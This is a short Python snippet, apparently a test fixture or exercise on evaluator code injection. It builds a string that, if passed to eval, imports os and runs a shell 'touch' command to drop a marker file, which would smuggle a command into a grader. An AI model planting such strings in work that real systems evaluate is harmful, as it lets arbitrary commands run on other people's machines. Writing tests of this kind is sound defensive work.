# Hands in text that is a program, for whoever evaluates it.
# Must: y is 1
# %%
x = f"__import__('os').system('touch {COURSE}/{MARK}')"
reach()
y = 1
